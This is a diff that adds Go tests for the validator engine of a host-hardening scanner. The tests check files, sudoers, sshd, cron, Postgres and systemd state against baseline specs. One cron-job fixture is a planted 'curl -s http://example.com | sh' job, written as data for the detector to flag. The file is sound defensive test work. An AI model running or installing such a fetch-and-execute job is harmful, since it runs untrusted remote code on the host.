@@ -0,0 +1,942 @@
+package validator
+
+import (
+	"context"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/charmbracelet/log"
+
+	"github.com/supabase/supascan/internal/config"
+	"github.com/supabase/supascan/internal/scanners"
+	"github.com/supabase/supascan/internal/spec"
+)
+
+func testEngine() *nativeEngine {
+	return newNativeEngine(log.New(io.Discard), nil)
+}
+
+func writeSpecFile(t *testing.T, dir, name, content string) string {
+	t.Helper()
+	path := filepath.Join(dir, name)
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write spec file: %v", err)
+	}
+	return path
+}
+
+func failedChecks(checks []CheckResult) []CheckResult {
+	return SpecResult{Checks: checks}.FailedChecks()
+}
+
+func TestNativeEngine_FileChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	target := filepath.Join(tmpDir, "pg_hba.conf")
+	if err := os.WriteFile(target, []byte("host all all 0.0.0.0/0 scram-sha-256\n"), 0640); err != nil {
+		t.Fatalf("Failed to write target: %v", err)
+	}
+
+	specPath := writeSpecFile(t, tmpDir, "files.yml", `file:
+  `+target+`:
+    exists: true
+    mode: "0640"
+    filetype: file
+    contains:
+      - scram-sha-256
+      - "!trust"
+      - /host\s+all/
+  `+filepath.Join(tmpDir, "missing")+`:
+    exists: false
+`)
+
+	checks, err := testEngine().validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+	if failures := failedChecks(checks); len(failures) != 0 {
+		t.Errorf("Expected no failures, got %v", failures)
+	}
+	// exists, mode, filetype, 3x contains for the target; exists for the missing file
+	if len(checks) != 7 {
+		t.Errorf("Expected 7 checks, got %d: %v", len(checks), checks)
+	}
+}
+
+func TestNativeEngine_FileMismatch(t *testing.T) {
+	tmpDir := t.TempDir()
+	target := filepath.Join(tmpDir, "sshd_config")
+	if err := os.WriteFile(target, []byte("PermitRootLogin yes\n"), 0644); err != nil {
+		t.Fatalf("Failed to write target: %v", err)
+	}
+
+	specPath := writeSpecFile(t, tmpDir, "files.yml", `file:
+  `+target+`:
+    exists: true
+    mode: "0600"
+    filetype: directory
+    contains:
+      - PermitRootLogin no
+`)
+
+	checks, err := testEngine().validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+	failures := failedChecks(checks)
+	if len(failures) != 3 {
+		t.Fatalf("Expected 3 failures (mode, filetype, contains), got %v", failures)
+	}
+
+	mode := failures[0]
+	if mode.ResourceType != "file" || mode.Resource != target || mode.Property != "mode" {
+		t.Errorf("Unexpected failed check: %+v", mode)
+	}
+	if mode.Expected != "0600" || mode.Actual != "0644" {
+		t.Errorf("Expected mode 0600 vs 0644, got %s vs %s", mode.Expected, mode.Actual)
+	}
+	if failures[1].Property != "filetype" || failures[1].Actual != "file" {
+		t.Errorf("Unexpected filetype check: %+v", failures[1])
+	}
+	if failures[2].Property != "contains" || failures[2].Expected != "PermitRootLogin no" {
+		t.Errorf("Unexpected contains check: %+v", failures[2])
+	}
+}
+
+func TestNativeEngine_FileSHA256(t *testing.T) {
+	tmpDir := t.TempDir()
+	binary := filepath.Join(tmpDir, "wal-g")
+	replaced := filepath.Join(tmpDir, "pg_hba.conf")
+	os.WriteFile(binary, []byte("data"), 0755)
+	os.WriteFile(replaced, []byte("host all all 0.0.0.0/0 trust\n"), 0640)
+
+	const dataSHA256 = "3a6eb0790f39ac87c94f3856b2dd2c5d110e6811602261a9a923d3bb23adc8b7"
+	specPath := writeSpecFile(t, tmpDir, "files.yml", `file:
+  `+binary+`:
+    exists: true
+    sha256: `+dataSHA256+`
+  `+replaced+`:
+    exists: true
+    sha256: `+dataSHA256+`
+`)
+
+	checks, err := testEngine().validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+	if len(checks) != 4 {
+		t.Errorf("Expected 4 checks (exists and sha256 per file), got %v", checks)
+	}
+	failures := failedChecks(checks)
+	if len(failures) != 1 || failures[0].Resource != replaced || failures[0].Property != "sha256" {
+		t.Errorf("Expected the replaced file's sha256 to fail, got %v", failures)
+	}
+}
+
+func TestNativeEngine_SymlinkChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	target := filepath.Join(tmpDir, "psql")
+	os.WriteFile(target, []byte("binary"), 0755)
+	link := filepath.Join(tmpDir, "psql-link")
+	os.Symlink(target, link)
+	dangling := filepath.Join(tmpDir, "dangling")
+	os.Symlink(filepath.Join(tmpDir, "missing"), dangling)
+
+	specPath := writeSpecFile(t, tmpDir, "files.yml", `file:
+  `+link+`:
+    exists: true
+    filetype: symlink
+    linked-to: `+target+`
+    target-exists: true
+  `+dangling+`:
+    exists: true
+    linked-to: `+target+`
+    target-exists: true
+`)
+
+	checks, err := testEngine().validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+	failures := failedChecks(checks)
+	if len(failures) != 2 {
+		t.Fatalf("Expected 2 failures (linked-to, target-exists), got %v", failures)
+	}
+	if failures[0].Resource != dangling || failures[0].Property != "linked-to" {
+		t.Errorf("Unexpected linked-to check: %+v", failures[0])
+	}
+	if failures[1].Property != "target-exists" || failures[1].Actual != "false" {
+		t.Errorf("Unexpected target-exists check: %+v", failures[1])
+	}
+}
+
+func TestNativeEngine_LiveStateChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "mixed.yml", `package:
+  bash:
+    installed: true
+    versions:
+      - 5.1-6ubuntu1
+  telnetd:
+    installed: false
+service:
+  apt-daily:
+    enabled: false
+    enablement: masked
+    running: false
+  cron:
+    enabled: true
+    running: true
+kernel-param:
+  net.ipv4.ip_forward:
+    value: "0"
+user:
+  postgres:
+    exists: true
+    home: /var/lib/postgresql
+`)
+
+	e := testEngine()
+
+	// Pre-populate live state so no scanners run
+	for _, rt := range []string{"package", "service", "kernel-param", "user"} {
+		e.scanned[rt] = nil
+	}
+	e.live.Packages["bash"] = spec.PackageSpec{Name: "bash", Installed: true, Versions: []string{"5.1-6ubuntu1"}}
+	yes, no := true, false
+	e.live.Services["apt-daily"] = spec.ServiceSpec{Name: "apt-daily", Enabled: &no, Enablement: "disabled", Running: &no}
+	e.live.Services["cron"] = spec.ServiceSpec{Name: "cron", Enabled: &yes, Running: &no}
+	e.live.KernelParams["net.ipv4.ip_forward"] = spec.KernelParamSpec{Key: "net.ipv4.ip_forward", Value: "1"}
+	e.live.Users["postgres"] = spec.UserSpec{Username: "postgres", Exists: true, Home: "/var/lib/postgresql"}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	// Expect: service apt-daily enablement, service cron running,
+	// kernel-param ip_forward value
+	failures := failedChecks(checks)
+	if len(failures) != 3 {
+		t.Fatalf("Expected 3 failures, got %v", failures)
+	}
+	if failures[0].String() != "service apt-daily: enablement: expected masked, got disabled" {
+		t.Errorf("Unexpected failure: %s", failures[0])
+	}
+	if failures[1].String() != "service cron: running: expected true, got false" {
+		t.Errorf("Unexpected failure: %s", failures[1])
+	}
+	if failures[2].String() != "kernel-param net.ipv4.ip_forward: value: expected 0, got 1" {
+		t.Errorf("Unexpected failure: %s", failures[2])
+	}
+}
+
+func TestNativeEngine_OptionalAttributes(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "spec.yml", `service:
+  nftables:
+    enabled: false
+  gotrue:
+    enabled: false
+    running: false
+user:
+  root:
+    exists: true
+    uid: 0
+group:
+  root:
+    exists: true
+    gid: 0
+`)
+
+	e := testEngine()
+	for _, rt := range []string{"service", "user", "group"} {
+		e.scanned[rt] = nil
+	}
+	yes, no := true, false
+	zero, uid := 0, 1000
+	e.live.Services["nftables"] = spec.ServiceSpec{Name: "nftables", Enabled: &no, Running: &yes}
+	e.live.Users["root"] = spec.UserSpec{Username: "root", Exists: true, UID: &uid, GID: &zero}
+	e.live.Groups["root"] = spec.GroupSpec{Name: "root", Exists: true, GID: &zero}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	// nftables is only checked for what the spec sets, and uid 0 is checked
+	failures := failedChecks(checks)
+	want := []string{
+		"service gotrue: exists: expected true, got false",
+		"user root: uid: expected 0, got 1000",
+	}
+	if len(failures) != len(want) {
+		t.Fatalf("Expected %d failures, got %v", len(want), failures)
+	}
+	for i, f := range failures {
+		if f.String() != want[i] {
+			t.Errorf("Failure %d = %q, want %q", i, f, want[i])
+		}
+	}
+	if len(checks) != 6 {
+		t.Errorf("Expected 6 checks, got %v", checks)
+	}
+}
+
+func TestNativeEngine_UnknownSections(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "spec.yml", `http:
+  https://localhost:8085/health:
+    status: 200
+  http://localhost:3000/:
+    status: 200
+file:
+  `+tmpDir+`:
+    exists: true
+`)
+
+	checks, err := testEngine().validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	var skipped []string
+	for _, c := range checks {
+		if c.Skipped {
+			skipped = append(skipped, c.String())
+		}
+	}
+	want := []string{
+		"http http://localhost:3000/: engine: not supported by the native engine, use --engine goss",
+		"http https://localhost:8085/health: engine: not supported by the native engine, use --engine goss",
+	}
+	if strings.Join(skipped, "\n") != strings.Join(want, "\n") {
+		t.Errorf("Skipped checks = %v, want %v", skipped, want)
+	}
+	if len(failedChecks(checks)) != 0 {
+		t.Errorf("Unexpected failures: %v", failedChecks(checks))
+	}
+}
+
+func TestRunNativeSpec_UnknownSectionsOnly(t *testing.T) {
+	tmpDir := t.TempDir()
+	writeSpecFile(t, tmpDir, "http.yml", "http:\n  https://localhost:8085/health:\n    status: 200\n")
+
+	v := New(Options{BaselinesDir: tmpDir})
+	v.native = testEngine()
+
+	// A spec the native engine cannot check at all is skipped, not passed
+	r := v.runSpec("http.yml", SeverityCritical)
+	if !r.Skipped || r.Passed || !strings.Contains(r.Reason, "native") {
+		t.Errorf("Expected http.yml to be skipped, got %+v", r)
+	}
+}
+
+func TestNativeEngine_FindingChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "finding.yml", `finding:
+  setuid:/usr/local/bin/helper:
+    check: setuid
+    path: /usr/local/bin/helper
+  world-writable:/data/old:
+    check: world-writable
+    path: /data/old
+`)
+
+	e := testEngine()
+	e.scanned["finding"] = nil
+	for _, f := range []spec.FindingSpec{
+		{Check: "setuid", Path: "/usr/local/bin/helper"},
+		{Check: "unowned", Path: "/data/new"},
+	} {
+		f.ID = spec.FindingID(f.Check, f.Path)
+		e.live.Findings[f.ID] = f
+	}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	// The accepted and the resolved finding pass, only the new one fails
+	if len(checks) != 3 {
+		t.Fatalf("Expected 3 checks, got %v", checks)
+	}
+	failures := failedChecks(checks)
+	if len(failures) != 1 || failures[0].String() != "finding unowned:/data/new: present: expected false, got true" {
+		t.Errorf("Unexpected failures: %v", failures)
+	}
+
+	// An empty finding section fails on any finding
+	emptyPath := writeSpecFile(t, tmpDir, "empty.yml", "finding: {}\n")
+	checks, err = e.validate(context.Background(), emptyPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+	if len(failedChecks(checks)) != 2 {
+		t.Errorf("Expected 2 failures, got %v", checks)
+	}
+}
+
+func TestNativeEngine_FindingsConfig(t *testing.T) {
+	// Findings are read with the config genspec used, here one excluding
+	// every path, not the built-in defaults
+	e := newNativeEngine(log.New(io.Discard), &config.Config{Paths: []string{"/"}})
+
+	live, err := e.liveState(context.Background(), "finding")
+	if err != nil {
+		t.Fatalf("liveState failed: %v", err)
+	}
+	if len(live.Findings) != 0 {
+		t.Errorf("Expected no findings with every path excluded, got %v", live.Findings)
+	}
+}
+
+func TestNativeEngine_CronJobChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "cron-job.yml", `cron-job:
+  "/etc/cron.d/wal-g: 0 3 * * * /usr/local/bin/wal-g backup-push":
+    schedule: 0 3 * * *
+    user: postgres
+    command: /usr/local/bin/wal-g backup-push
+    source: /etc/cron.d/wal-g
+  "/etc/cron.daily: @daily /etc/cron.daily/logrotate":
+    schedule: '@daily'
+    user: root
+    command: /etc/cron.daily/logrotate
+    source: /etc/cron.daily
+`)
+
+	e := testEngine()
+	e.scanned["cron-job"] = nil
+	for _, job := range []spec.CronJobSpec{
+		{Schedule: "0 3 * * *", User: "root", Command: "/usr/local/bin/wal-g backup-push", Source: "/etc/cron.d/wal-g"},
+		{Schedule: "*/5 * * * *", User: "ubuntu", Command: "curl -s http://example.com | sh", Source: "/var/spool/cron/crontabs/ubuntu"},
+	} {
+		job.ID = spec.CronJobID(job.Source, job.Schedule, job.Command)
+		e.live.CronJobs[job.ID] = job
+	}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	failures := failedChecks(checks)
+	want := []string{
+		"cron-job /etc/cron.d/wal-g: 0 3 * * * /usr/local/bin/wal-g backup-push: user: expected postgres, got root",
+		"cron-job /etc/cron.daily: @daily /etc/cron.daily/logrotate: exists: expected true, got false",
+		"cron-job /var/spool/cron/crontabs/ubuntu: */5 * * * * curl -s http://example.com | sh: exists: expected false, got true",
+	}
+	if len(failures) != len(want) {
+		t.Fatalf("Expected %d failures, got %v", len(want), failures)
+	}
+	for i, f := range failures {
+		if f.String() != want[i] {
+			t.Errorf("Failure %d = %q, want %q", i, f, want[i])
+		}
+	}
+}
+
+func TestNativeEngine_EmptyCronJobSection(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "cron-job.yml", "cron-job: {}\n")
+
+	e := testEngine()
+	e.scanned["cron-job"] = nil
+	job := spec.CronJobSpec{Schedule: "*/5 * * * *", User: "root", Command: "/tmp/x", Source: "/etc/cron.d/x"}
+	job.ID = spec.CronJobID(job.Source, job.Schedule, job.Command)
+	e.live.CronJobs[job.ID] = job
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	failures := failedChecks(checks)
+	if len(failures) != 1 || failures[0].String() != "cron-job "+job.ID+": exists: expected false, got true" {
+		t.Errorf("Expected the new cron job to fail, got %v", failures)
+	}
+}
+
+func TestNativeEngine_GroupMembers(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "group.yml", `group:
+  sudo:
+    exists: true
+    members: []
+  postgres:
+    exists: true
+    members:
+      - postgres
+  adm:
+    exists: true
+`)
+
+	e := testEngine()
+	e.scanned["group"] = nil
+	e.live.Groups["sudo"] = spec.GroupSpec{Name: "sudo", Exists: true, Members: []string{"mallory"}}
+	e.live.Groups["postgres"] = spec.GroupSpec{Name: "postgres", Exists: true, Members: []string{"postgres"}}
+	e.live.Groups["adm"] = spec.GroupSpec{Name: "adm", Exists: true, Members: []string{"syslog"}}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	// adm does not list members, so they are not checked
+	if len(checks) != 5 {
+		t.Errorf("Expected 5 checks, got %v", checks)
+	}
+	failures := failedChecks(checks)
+	if len(failures) != 1 || failures[0].String() != "group sudo: members: expected [], got [mallory]" {
+		t.Errorf("Unexpected failures: %v", failures)
+	}
+}
+
+func TestNativeEngine_ShadowChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "shadow.yml", `shadow:
+  postgres:
+    password: locked
+    max-days: 90
+  ubuntu:
+    password: usable
+  /etc/login.defs:
+    max-days: 365
+    encrypt-method: SHA512
+`)
+
+	maxDays := 90
+	e := testEngine()
+	e.scanned["shadow"] = nil
+	e.live.Shadow["postgres"] = spec.ShadowSpec{Username: "postgres", Password: "empty", MaxDays: &maxDays}
+	e.live.Shadow["/etc/login.defs"] = spec.ShadowSpec{Username: "/etc/login.defs", EncryptMethod: "SHA512"}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	failures := failedChecks(checks)
+	want := []string{
+		"shadow /etc/login.defs: max-days: expected 365, got unset",
+		"shadow postgres: password: expected locked, got empty",
+		"shadow ubuntu: exists: expected true, got false",
+	}
+	if len(failures) != len(want) {
+		t.Fatalf("Expected %d failures, got %v", len(want), failures)
+	}
+	for i, f := range failures {
+		if f.String() != want[i] {
+			t.Errorf("Failure %d = %q, want %q", i, f, want[i])
+		}
+	}
+}
+
+func TestNativeEngine_SudoersChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "sudoers.yml", `sudoers-rule:
+  "%sudo ALL = (ALL : ALL) ALL":
+    user: "%sudo"
+    hosts: [ALL]
+    runas: "ALL : ALL"
+    commands: [ALL]
+    nopasswd: false
+    source: /etc/sudoers
+  "postgres ALL = (root) /usr/bin/systemctl restart postgresql":
+    user: postgres
+    hosts: [ALL]
+    runas: root
+    commands: [/usr/bin/systemctl restart postgresql]
+    nopasswd: true
+    source: /etc/sudoers.d/postgres
+sudoers-default:
+  Defaults secure_path:
+    value: /usr/sbin:/usr/bin:/sbin:/bin
+    source: /etc/sudoers
+  Defaults use_pty:
+    value: "true"
+    source: /etc/sudoers
+`)
+
+	e := testEngine()
+	e.scanned["sudoers"] = nil
+	for _, rule := range []spec.SudoersRuleSpec{
+		{User: "%sudo", Hosts: []string{"ALL"}, RunAs: "ALL : ALL", Commands: []string{"ALL"}},
+		{User: "postgres", Hosts: []string{"ALL"}, RunAs: "root", Commands: []string{"/usr/bin/systemctl restart postgresql"}},
+		{User: "ubuntu", Hosts: []string{"ALL"}, RunAs: "ALL", Commands: []string{"ALL"}, NoPasswd: true},
+	} {
+		rule.ID = spec.SudoersRuleID(rule.User, rule.Hosts, rule.RunAs, rule.Commands)
+		e.live.SudoersRules[rule.ID] = rule
+	}
+	e.live.SudoersDefaults["Defaults secure_path"] = spec.SudoersDefaultSpec{ID: "Defaults secure_path", Value: "/usr/sbin:/usr/bin:/sbin:/bin"}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	failures := failedChecks(checks)
+	want := []string{
+		"sudoers-rule postgres ALL = (root) /usr/bin/systemctl restart postgresql: nopasswd: expected true, got false",
+		"sudoers-rule ubuntu ALL = (ALL) ALL: exists: expected false, got true",
+		"sudoers-default Defaults use_pty: value: expected true, got <not found>",
+	}
+	if len(failures) != len(want) {
+		t.Fatalf("Expected %d failures, got %v", len(want), failures)
+	}
+	for i, f := range failures {
+		if f.String() != want[i] {
+			t.Errorf("Failure %d = %q, want %q", i, f, want[i])
+		}
+	}
+}
+
+func TestNativeEngine_EmptySudoersRuleSection(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "sudoers.yml", "sudoers-rule: {}\n")
+
+	e := testEngine()
+	e.scanned["sudoers"] = nil
+	rule := spec.SudoersRuleSpec{User: "ubuntu", Hosts: []string{"ALL"}, RunAs: "ALL", Commands: []string{"ALL"}, NoPasswd: true}
+	rule.ID = spec.SudoersRuleID(rule.User, rule.Hosts, rule.RunAs, rule.Commands)
+	e.live.SudoersRules[rule.ID] = rule
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	failures := failedChecks(checks)
+	if len(failures) != 1 || !strings.HasPrefix(failures[0].String(), "sudoers-rule "+rule.ID+": exists: expected false") {
+		t.Errorf("Expected the new sudoers rule to fail, got %v", failures)
+	}
+}
+
+func TestNativeEngine_SshdConfigChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "sshd-config.yml", `sshd-config:
+  permitrootlogin:
+    value: "no"
+  passwordauthentication:
+    value: "no"
+  port:
+    value: "22"
+  "[match User backup] passwordauthentication":
+    value: "yes"
+`)
+
+	e := testEngine()
+	e.scanned["sshd-config"] = nil
+	e.live.SshdConfig["permitrootlogin"] = spec.SshdConfigSpec{Key: "permitrootlogin", Value: "No"}
+	e.live.SshdConfig["passwordauthentication"] = spec.SshdConfigSpec{Key: "passwordauthentication", Value: "yes"}
+	e.live.SshdConfig["port"] = spec.SshdConfigSpec{Key: "port", Value: "22"}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	failures := failedChecks(checks)
+	want := []string{
+		"sshd-config [match User backup] passwordauthentication: value: expected yes, got <not found>",
+		"sshd-config passwordauthentication: value: expected no, got yes",
+	}
+	if len(failures) != len(want) {
+		t.Fatalf("Expected %d failures, got %v", len(want), failures)
+	}
+	for i, f := range failures {
+		if f.String() != want[i] {
+			t.Errorf("Failure %d = %q, want %q", i, f, want[i])
+		}
+	}
+}
+
+func TestNativeEngine_SshdConfigSources(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "sshd-config.yml", `sshd-config:
+  logingracetime:
+    value: "120"
+    source: sshd -T
+`)
+
+	// Without sshd -T the live value is parsed from the files ("2m"), which
+	// cannot be compared with the normalised one
+	e := testEngine()
+	e.scanned["sshd-config"] = nil
+	e.live.SshdConfig["logingracetime"] = spec.SshdConfigSpec{Key: "logingracetime", Value: "2m", Source: spec.SshdSourceConfig}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+	failures := failedChecks(checks)
+	if len(failures) != 1 || failures[0].String() != "sshd-config logingracetime: value: sshd -T is not available to read the effective value" {
+		t.Errorf("Unexpected failures: %v", failures)
+	}
+
+	// With sshd -T the values are compared
+	e = testEngine()
+	e.scanned["sshd-config"] = nil
+	e.live.SshdConfig["logingracetime"] = spec.SshdConfigSpec{Key: "logingracetime", Value: "120", Source: spec.SshdSourceEffective}
+
+	checks, err = e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+	if failures := failedChecks(checks); len(failures) != 0 {
+		t.Errorf("Unexpected failures: %v", failures)
+	}
+}
+
+func TestNativeEngine_PostgresChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "postgres.yml", `postgres-config:
+  ssl:
+    value: "on"
+  max_connections:
+    value: "100"
+postgres-hba:
+  host all all 0.0.0.0/0:
+    order: 2
+    type: host
+    database: all
+    user: all
+    address: 0.0.0.0/0
+    method: scram-sha-256
+  local all supabase_admin:
+    order: 1
+    type: local
+    database: all
+    user: supabase_admin
+    method: scram-sha-256
+postgres-ident:
+  supabase_map postgres postgres:
+    map: supabase_map
+    system-user: postgres
+    pg-user: postgres
+`)
+
+	e := testEngine()
+	e.scanned["postgres-config"] = nil
+	e.live.PostgresConfig["ssl"] = spec.PostgresConfigSpec{Name: "ssl", Value: "on"}
+	e.live.PostgresConfig["max_connections"] = spec.PostgresConfigSpec{Name: "max_connections", Value: "200"}
+	e.live.PostgresHba["local all supabase_admin"] = spec.PostgresHbaSpec{ID: "local all supabase_admin", Order: 1, Method: "scram-sha-256"}
+	e.live.PostgresHba["host all all 0.0.0.0/0"] = spec.PostgresHbaSpec{ID: "host all all 0.0.0.0/0", Order: 2, Method: "trust"}
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	failures := failedChecks(checks)
+	want := []string{
+		"postgres-config max_connections: value: expected 100, got 200",
+		"postgres-hba host all all 0.0.0.0/0: method: expected scram-sha-256, got trust",
+		"postgres-ident supabase_map postgres postgres: exists: expected true, got false",
+	}
+	if len(failures) != len(want) {
+		t.Fatalf("Expected %d failures, got %v", len(want), failures)
+	}
+	for i, f := range failures {
+		if f.String() != want[i] {
+			t.Errorf("Failure %d = %q, want %q", i, f, want[i])
+		}
+	}
+}
+
+// fakeUnitScanner reports fixed systemd units and records the config it
+// was given
+type fakeUnitScanner struct {
+	units []spec.SystemdUnitSpec
+	cfg   *config.Config
+}
+
+func (f *fakeUnitScanner) Name() string    { return "systemd-units" }
+func (f *fakeUnitScanner) IsDynamic() bool { return false }
+
+func (f *fakeUnitScanner) Scan(ctx context.Context, opts scanners.ScanOptions) (scanners.ScanStats, error) {
+	f.cfg = opts.Config.(*config.Config)
+	for _, unit := range f.units {
+		if !f.cfg.IsUnitExcluded(unit.Name) {
+			opts.Writer.(scanners.Writer).Add(unit)
+		}
+	}
+	return scanners.ScanStats{}, nil
+}
+
+func TestNativeEngine_SystemdUnitChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "systemd-unit.yml", `systemd-unit:
+  postgresql.service:
+    properties:
+      User: postgres
+      ProtectSystem: full
+      NoNewPrivileges: "yes"
+    drop-ins: []
+  gotrue.service:
+    properties:
+      User: gotrue
+  logrotate.timer:
+    type: timer
+    enablement: enabled
+    active: active
+    schedule: OnCalendar=daily
+`)
+
+	fake := &fakeUnitScanner{units: []spec.SystemdUnitSpec{{
+		Name:       "postgresql.service",
+		Properties: map[string]string{"User": "postgres", "ProtectSystem": "no"},
+		DropIns:    []string{"/etc/systemd/system/postgresql.service.d/override.conf"},
+	}, {
+		Name:       "logrotate.timer",
+		Type:       "timer",
+		Enablement: "disabled",
+		Active:     "active",
+		Schedule:   "OnCalendar=daily",
+	}}}
+	e := testEngine()
+	e.unitScanner = func() scanners.Scanner { return fake }
+
+	checks, err := e.validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+
+	// Only the units and properties the spec lists are read
+	if strings.Join(fake.cfg.Units, ",") != "gotrue.service,logrotate.timer,postgresql.service" ||
+		strings.Join(fake.cfg.UnitProperties, ",") != "NoNewPrivileges,ProtectSystem,User" {
+		t.Errorf("Unexpected scan config: %+v", fake.cfg)
+	}
+
+	failures := failedChecks(checks)
+	want := []string{
+		"systemd-unit gotrue.service: exists: expected true, got false",
+		"systemd-unit logrotate.timer: enablement: expected enabled, got disabled",
+		"systemd-unit postgresql.service: NoNewPrivileges: expected yes, got <not found>",
+		"systemd-unit postgresql.service: ProtectSystem: expected full, got no",
+		"systemd-unit postgresql.service: drop-ins: expected [], got [/etc/systemd/system/postgresql.service.d/override.conf]",
+	}
+	if len(failures) != len(want) {
+		t.Fatalf("Expected %d failures, got %v", len(want), failures)
+	}
+	for i, f := range failures {
+		if f.String() != want[i] {
+			t.Errorf("Failure %d = %q, want %q", i, f, want[i])
+		}
+	}
+}
+
+func TestNativeEngine_UnlistedSystemdUnits(t *testing.T) {
+	tmpDir := t.TempDir()
+	listed := writeSpecFile(t, tmpDir, "systemd-unit.yml", `systemd-unit:
+  postgresql.service:
+    active: active
+`)
+	empty := writeSpecFile(t, tmpDir, "empty.yml", "systemd-unit: {}\n")
+
+	fake := &fakeUnitScanner{units: []spec.SystemdUnitSpec{
+		{Name: "postgresql.service", Active: "active"},
+		{Name: "backdoor.timer", Type: "timer", Active: "active"},
+		{Name: "session-1.scope", Type: "scope", Active: "active"},
+	}}
+	e := newNativeEngine(log.New(io.Discard), &config.Config{ExcludedUnits: []string{"*.scope"}})
+	e.unitScanner = func() scanners.Scanner { return fake }
+
+	tests := map[string][]string{
+		listed: {"systemd-unit backdoor.timer: exists: expected false, got true"},
+		empty: {
+			"systemd-unit backdoor.timer: exists: expected false, got true",
+			"systemd-unit postgresql.service: exists: expected false, got true",
+		},
+	}
+	for specPath, want := range tests {
+		checks, err := e.validate(context.Background(), specPath)
+		if err != nil {
+			t.Fatalf("validate failed: %v", err)
+		}
+
+		failures := failedChecks(checks)
+		if len(failures) != len(want) {
+			t.Fatalf("%s: expected %d failures, got %v", filepath.Base(specPath), len(want), failures)
+		}
+		for i, f := range failures {
+			if f.String() != want[i] {
+				t.Errorf("%s: failure %d = %q, want %q", filepath.Base(specPath), i, f, want[i])
+			}
+		}
+	}
+}
+
+func TestNativeEngine_CommandChecks(t *testing.T) {
+	tmpDir := t.TempDir()
+	specPath := writeSpecFile(t, tmpDir, "command.yml", `command:
+  "echo hello":
+    exit-status: 0
+    stdout: hello
+  "exit 3":
+    exit-status: 0
+`)
+
+	checks, err := testEngine().validate(context.Background(), specPath)
+	if err != nil {
+		t.Fatalf("validate failed: %v", err)
+	}
+	failures := failedChecks(checks)
+	if len(failures) != 1 || failures[0].Resource != "exit 3" || failures[0].Actual != "3" {
+		t.Errorf("Expected exit-status failure for 'exit 3', got %v", failures)
+	}
+}
+
+func TestContainsPattern(t *testing.T) {
+	content := []byte("PasswordAuthentication no\nPermitRootLogin prohibit-password\n")
+
+	tests := []struct {
+		pattern string
+		want    bool
+	}{
+		{"PasswordAuthentication no", true},
+		{"PasswordAuthentication yes", false},
+		{"!PasswordAuthentication yes", true},
+		{"/PermitRootLogin (no|prohibit-password)/", true},
+		{"!/PermitRootLogin yes/", true},
+	}
+
+	for _, tt := range tests {
+		if got := containsPattern(content, tt.pattern); got != tt.want {
+			t.Errorf("containsPattern(%q) = %v, want %v", tt.pattern, got, tt.want)
+		}
+	}
+}
+
+func TestSameSet(t *testing.T) {
+	tests := []struct {
+		a, b []string
+		want bool
+	}{
+		{[]string{"a", "b"}, []string{"b", "a"}, true},
+		{nil, []string{}, true},
+		{[]string{"a", "a"}, []string{"a", "b"}, false},
+		{[]string{"a", "b"}, []string{"a", "a"}, false},
+		{[]string{"a", "b", "a"}, []string{"a", "a", "b"}, true},
